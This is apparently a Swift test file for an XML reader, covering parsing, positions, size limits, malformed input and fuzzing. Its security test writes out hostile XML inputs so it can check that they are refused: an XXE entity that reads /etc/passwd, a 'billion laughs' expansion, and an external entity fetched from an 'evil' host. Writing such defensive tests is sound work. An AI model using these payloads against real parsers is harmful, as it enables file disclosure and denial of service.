import InfluenceIO
import InfluenceTestSupport
import Testing

@Suite("XML reader: well-formed input, positions and hostile input")
struct XMLReaderTests {
    func parse(_ text: String) throws(ReadError) -> XMLReader.Element {
        try XMLReader.document(Array(text.utf8), path: "t.xml", expecting: "a test document")
    }

    func parse(bytes: [UInt8]) throws(ReadError) -> XMLReader.Element {
        try XMLReader.document(bytes, path: "t.xml", expecting: "a test document")
    }

    /// Expects exactly `message` (with its `t.xml:L:C: ` prefix).
    func expectError(_ bytes: [UInt8], _ message: String, sourceLocation: Testing.SourceLocation = #_sourceLocation) {
        do {
            _ = try parse(bytes: bytes)
            Issue.record("expected \(message)", sourceLocation: sourceLocation)
        } catch {
            #expect(error.description == message, sourceLocation: sourceLocation)
        }
    }

    func expectError(_ text: String, _ message: String, sourceLocation: Testing.SourceLocation = #_sourceLocation) {
        expectError(Array(text.utf8), message, sourceLocation: sourceLocation)
    }

    @Test("elements, attributes, text, CDATA, comments, PIs, references and positions")
    func wellFormed() throws {
        let text = """
        \u{FEFF}<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
        <!DOCTYPE root>
        <!-- a comment -->
        <?app some data?>
        <root a="1" b='two &amp; &lt;three&gt;' c="&#x41;&#66;&quot;&apos;">
          <é x="y"/>text &amp; more<![CDATA[<raw> & ]]]><child>inner</child>
        </root>
        <!-- trailing comment -->
        """
        let root = try parse(text)
        #expect(root.name == "root")
        #expect(root.position == XMLReader.Position(line: 5, column: 1))
        #expect(root.attributes.map(\.name) == ["a", "b", "c"])
        #expect(root.attribute("b") == "two & <three>")
        #expect(root.attribute("c") == "AB\"'")
        #expect(root.attributeEntry("c")?.position == XMLReader.Position(line: 5, column: 41))
        let elements = root.elements
        #expect(elements.map(\.name) == ["é", "child"])
        #expect(elements[0].position == XMLReader.Position(line: 6, column: 3))
        #expect(elements[0].attributeEntry("x")?.position == XMLReader.Position(line: 6, column: 6))
        #expect(elements[1].text == "inner")
        #expect(root.text == "\n  text & more<raw> & ]\n")
    }

    @Test("the pull parser reports every event in order")
    func events() throws {
        var reader = XMLReader(Array("<?xml version='1.0'?><!--c--><a><?p d?><b/>t<![CDATA[x]]></a>".utf8), path: "t.xml")
        var seen: [String] = []
        while let event = try reader.next() {
            switch event {
            case .startElement(let e): seen.append("<\(e.name)>")
            case .endElement(let name, _): seen.append("</\(name)>")
            case .text(let s, _, let cdata): seen.append(cdata ? "cdata:\(s)" : "text:\(s)")
            case .comment(let s, _): seen.append("comment:\(s)")
            case .processingInstruction(let t, let d, _): seen.append("pi:\(t):\(d)")
            case .doctype(let n, _): seen.append("doctype:\(n)")
            }
        }
        #expect(seen == ["comment:c", "<a>", "pi:p:d", "<b>", "</b>", "text:t", "cdata:x", "</a>"])
        #expect(reader.version == "1.0")
    }

    @Test("line ends are normalised; attribute whitespace becomes spaces unless written as references")
    func normalisation() throws {
        let root = try parse("<a v=\"x\ty\r\nz&#10;&#9;w\">one\r\ntwo\rthree</a>")
        #expect(root.attribute("v") == "x y z\n\tw")
        #expect(root.text == "one\ntwo\nthree")
        // Lines and columns after CRLF and multi-byte characters.
        let r2 = try parse("<a>\r\n  <ü/>\r\n  ∑∑<b/></a>")
        #expect(r2.elements[1].position == XMLReader.Position(line: 3, column: 5))
    }

    @Test("security: entity declarations and external DTDs are refused, never expanded or fetched")
    func doctypeAttacks() {
        expectError("<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n<x>&e;</x>",
                    "t.xml:2:14: the DOCTYPE declares entity 'e' (refused: entities are never expanded or fetched, which rules out XXE and \"billion laughs\"; remove the DOCTYPE)")
        let laughs = """
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
         <!ENTITY lol "lol">
         <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
         <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
        ]>
        <lolz>&lol3;</lolz>
        """
        expectError(laughs, "t.xml:3:2: the DOCTYPE declares entity 'lol' (refused: entities are never expanded or fetched, which rules out XXE and \"billion laughs\"; remove the DOCTYPE)")
        expectError("<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]><x/>",
                    "t.xml:1:14: the DOCTYPE declares entity 'p' (refused: entities are never expanded or fetched, which rules out XXE and \"billion laughs\"; remove the DOCTYPE)")
        expectError("<!DOCTYPE graphml SYSTEM \"http://graphml.graphdrawing.org/dtds/graphml.dtd\">\n<graphml/>",
                    "t.xml:1:19: the DOCTYPE refers to an external DTD or entity (refused: nothing is ever fetched; remove the DOCTYPE)")
        expectError("<!DOCTYPE x PUBLIC \"-//x\" \"http://x\"><x/>",
                    "t.xml:1:13: the DOCTYPE refers to an external DTD or entity (refused: nothing is ever fetched; remove the DOCTYPE)")
        expectError("<!DOCTYPE x [<!ELEMENT x ANY>]><x/>",
                    "t.xml:1:13: the DOCTYPE has an internal subset (refused: declarations are not supported; expected a bare <!DOCTYPE x> or none)")
        expectError("<x>&e;</x>",
                    "t.xml:1:4: undefined entity '&e;' (only &lt; &gt; &amp; &quot; &apos; and character references such as &#38; are allowed)")
        expectError("<x a=\"&nbsp;\"/>",
                    "t.xml:1:7: undefined entity '&nbsp;' (only &lt; &gt; &amp; &quot; &apos; and character references such as &#38; are allowed)")
        expectError("<x>a & b</x>", "t.xml:1:6: '&' does not start a reference such as &amp; or &#38; (write &amp; for a literal '&')")
        expectError("<x>&#0;</x>", "t.xml:1:4: character reference '&#0;' is not a character XML allows")
        expectError("<x>&#x110000;</x>", "t.xml:1:4: character reference '&#x110000;' is not a character XML allows")
        expectError("<x>&#xD800;</x>", "t.xml:1:4: character reference '&#xD800;' is not a character XML allows")
    }

    @Test("10,000-deep nesting is refused at level 257, without recursion")
    func deepNesting() {
        let deep = String(repeating: "<a>", count: 10_000) + String(repeating: "</a>", count: 10_000)
        expectError(deep, "t.xml:1:769: elements are nested deeper than 256 levels (the limit for nesting)")
        // 256 levels are fine.
        let ok = String(repeating: "<a>", count: 256) + String(repeating: "</a>", count: 256)
        #expect(throws: Never.self) { _ = try parse(ok) }
    }

    @Test("names, attribute values and text runs over 1 MiB are refused")
    func limits() {
        let big = String(repeating: "x", count: 2_000_000)
        expectError("<a>\n  <b v=\"\(big)\"/></a>",
                    "t.xml:2:6: the value of attribute 'v' is longer than 1048576 bytes (the limit for an attribute value)")
        expectError("<a>\(big)</a>", "t.xml:1:4: a text run is longer than 1048576 bytes (the limit for one text run)")
        expectError("<a><![CDATA[\(big)]]></a>", "t.xml:1:4: a CDATA section is longer than 1048576 bytes (the limit for one text run)")
        expectError("<a\(big)/>", "t.xml:1:2: a name is longer than 1048576 bytes (the limit for a name)")
        expectError("<a b\(big)=\"\"/>", "t.xml:1:4: a name is longer than 1048576 bytes (the limit for a name)")
        // Exactly at the limit is accepted.
        let limit = String(repeating: "y", count: 1 << 20)
        #expect((try? parse("<a v=\"\(limit)\">\(limit)</a>"))?.text.utf8.count == 1 << 20)
    }

    @Test("truncated documents name the element left open")
    func truncated() {
        expectError("<graphml>\n  <graph>\n    <node id=\"a\">", "t.xml:3:18: the file ends inside element <node> opened at 3:5 (expected </node>; is the file truncated?)")
        expectError("<graphml>\n  <graph id=\"g", "t.xml:2:15: the file ends inside the value of attribute 'id' of <graph> opened at 2:3 (is the file truncated?)")
        expectError("<a><b ", "t.xml:1:7: the file ends inside the start tag <b> opened at 1:4 (is the file truncated?)")
        expectError("<a><!-- never closed", "t.xml:1:21: the file ends inside the comment opened at 1:4 (expected '-->')")
        expectError("<a><![CDATA[x", "t.xml:1:14: the file ends inside the CDATA section opened at 1:4 (expected ']]>')")
        expectError("<a></a", "t.xml:1:7: the file ends inside the end tag </a> (is the file truncated?)")
        expectError("<?xml version=\"1.0\"?>\n<!-- only -->\n", "t.xml:3:1: no root element (expected a test document)")
    }

    @Test("malformed structure is named")
    func structure() {
        expectError("<a>\n  <b></c>\n</a>", "t.xml:2:6: end tag </c> does not match <b> opened at 2:3 (expected </b>)")
        expectError("<a/></a>", "t.xml:1:5: end tag </a> has no matching start tag")
        expectError("<a/>\n<b/>", "t.xml:2:1: a second root element after </a> (a document has exactly one root element)")
        expectError("<a/>junk", "t.xml:1:5: text after the end of the root element </a> (expected nothing but comments)")
        expectError("hello <a/>", "t.xml:1:1: text before the root element (expected a test document, starting with '<')")
        expectError("<a b=\"1\" b=\"2\"/>", "t.xml:1:10: duplicate attribute 'b' in <a>")
        expectError("<a b=\"x<y\"/>", "t.xml:1:8: '<' is not allowed in an attribute value (write &lt;)")
        expectError("<a b=1/>", "t.xml:1:6: the value of attribute 'b' of <a> must be quoted, found '1'")
        expectError("<a b/>", "t.xml:1:4: attribute 'b' of <a> has no value (expected b=\"…\")")
        expectError("<a\"/>", "t.xml:1:3: unexpected '\"' in the start tag <a> (expected an attribute name, '>' or '/>')")
        expectError("<1/>", "t.xml:1:2: expected an element name after '<', found '1'")
        expectError("<a><?xml version=\"1.0\"?></a>", "t.xml:1:4: an XML declaration is only allowed at the very start of the file")
        expectError("<a><!ELEMENT x></a>", "t.xml:1:4: unexpected '<!' (expected a comment '<!--', a CDATA section or a DOCTYPE)")
        expectError("<a/><!DOCTYPE a>", "t.xml:1:5: a DOCTYPE inside or after the root element (it must come before it)")
    }

    @Test("encodings, invalid UTF-8, binary data and empty files")
    func bytes() {
        expectError([], "t.xml:1:1: the file is empty (expected a test document)")
        expectError(Array(" \n\t ".utf8), "t.xml:1:1: the file is empty (expected a test document)")
        expectError([0xEF, 0xBB, 0xBF], "t.xml:1:1: the file is empty (expected a test document)")
        expectError(Array("<a>\n  caf".utf8) + [0xE9] + Array(" ok</a>".utf8),
                    "t.xml:2:6: invalid UTF-8: byte 0xE9 does not start a valid sequence (the file must be UTF-8 text)")
        expectError(Array("<a>".utf8) + [0xC3] + Array("</a>".utf8),
                    "t.xml:1:4: invalid UTF-8: byte 0xC3 does not start a valid sequence (the file must be UTF-8 text)")
        expectError(Array("<a>".utf8) + [0xED, 0xA0, 0x80] + Array("</a>".utf8),  // an encoded surrogate
                    "t.xml:1:4: invalid UTF-8: byte 0xED does not start a valid sequence (the file must be UTF-8 text)")
        expectError([0x7F, 0x45, 0x4C, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00],  // an ELF header
                    "t.xml:1:5: control character U+0002 is not allowed in XML (is this a binary file?)")
        expectError(Array("<a>x".utf8) + [0x00] + Array("</a>".utf8),
                    "t.xml:1:5: control character U+0000 is not allowed in XML (is this a binary file?)")
        expectError(Array("<a>".utf8) + [0xEF, 0xBF, 0xBF] + Array("</a>".utf8),
                    "t.xml:1:4: character U+FFFF is not allowed in XML (is this a binary file?)")
        expectError([0xFF, 0xFE, 0x3C, 0x00, 0x61, 0x00], "t.xml:1:1: the file is UTF-16 or UTF-32 (expected UTF-8 text)")
        expectError("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a/>",
                    "t.xml:1:31: encoding 'ISO-8859-1' is not supported (expected UTF-8; convert the file, for example with iconv)")
        expectError("<?xml version=\"2.0\"?><a/>", "t.xml:1:16: XML version '2.0' is not supported (expected 1.0)")
        expectError("<?xml version=\"1.0\" bogus=\"x\"?><a/>",
                    "t.xml:1:21: malformed XML declaration (expected <?xml version=\"1.0\" encoding=\"UTF-8\"?>)")
    }

    @Test("a long one-line document parses (positions cost linear time)")
    func longLine() throws {
        var text = "<r>"
        for i in 0 ..< 100_000 { text += "<e i=\"\(i)\">&amp;</e>" }
        text += "</r>"
        let root = try parse(text)
        #expect(root.elements.count == 100_000)
        var column = 4
        for i in 0 ..< 99_999 { column += 17 + String(i).count }
        #expect(root.elements[99_999].position == XMLReader.Position(line: 1, column: column))
    }

    @Test("random mutations of a document never crash", arguments: 0 ..< 4)
    func mutations(seed: UInt64) {
        let base = Array("""
        <?xml version="1.0" encoding="UTF-8"?>
        <graphml xmlns="http://graphml.graphdrawing.org/xmlns">
          <key id="d0" for="node" attr.name="label" attr.type="string"><default>x</default></key>
          <graph edgedefault="directed"><node id="a &amp; b"><data key="d0">A&#233;<![CDATA[<>]]></data></node>
          <!-- c --><?pi x?><edge source="a &amp; b" target="a &amp; b"/></graph>
        </graphml>
        """.utf8)
        var rng = SplitMix64(seed: seed)
        let alphabet: [UInt8] = Array("<>/&;#x\"'=![]-?D CDATA".utf8) + [0x00, 0x0A, 0xC3, 0xFF, 0xE2, 0x80]
        for _ in 0 ..< 500 {
            var bytes = base
            for _ in 0 ..< Int.random(in: 1 ... 8, using: &rng) {
                let k = Int.random(in: 0 ..< bytes.count, using: &rng)
                switch Int.random(in: 0 ..< 3, using: &rng) {
                case 0: bytes[k] = alphabet.randomElement(using: &rng) ?? 0
                case 1: bytes.remove(at: k)
                default: bytes.insert(alphabet.randomElement(using: &rng) ?? 0, at: k)
                }
            }
            if Bool.random(using: &rng) { bytes.removeLast(Int.random(in: 0 ..< bytes.count, using: &rng)) }
            // Any outcome but a crash or a hang is fine; errors must carry a position.
            do {
                _ = try parse(bytes: bytes)
                _ = try? GraphMLFormat.read(bytes, path: "t.xml")
                _ = try? GEXFFormat.read(bytes, path: "t.xml")
            } catch {
                #expect(error.diagnostics.first?.location != nil, "\(error)")
            }
        }
    }
}
